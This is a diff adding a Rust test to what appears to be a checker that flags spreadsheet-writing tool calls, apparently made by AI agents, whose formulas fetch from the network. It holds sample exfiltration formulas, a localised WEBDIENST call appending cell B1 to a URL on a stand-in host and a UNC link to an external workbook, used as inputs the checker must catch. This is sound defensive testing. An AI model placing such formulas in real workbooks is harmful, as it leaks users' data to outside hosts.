@@ -42,3 +42,17 @@ fn a_formula_that_fetches_is_asked_about() {
         assert_eq!(judge(tool, json!({"values": [["=SUM(A1)", "https://x.io", -1]]})), Judgement::new());
     }
 }
+
+#[test]
+fn a_formula_in_the_users_language_or_of_another_workbook_is_asked_about() {
+    for (body, at) in [
+        (json!({"formulasLocal": [["=WEBDIENST(\"https://e.example/?\"&B1)"]]}), "/body/formulasLocal/0/0"),
+        (json!({"formulas": [["='\\\\e.example\\s\\[x.xlsx]S'!A1"]]}), "/body/formulas/0/0"),
+    ] {
+        let judgement = judge("update-excel-range", body);
+        let found: Vec<_> = judgement.findings().iter().map(|one| (one.code(), one.argument())).collect();
+        assert_eq!(found, [("formula_fetches", at)]);
+    }
+    let plain = json!({"formulas": [["=SUM(Sales[Amount])"]], "formulasLocal": [["Umsatz (netto)"]]});
+    assert_eq!(judge("update-excel-range", plain), Judgement::new());
+}
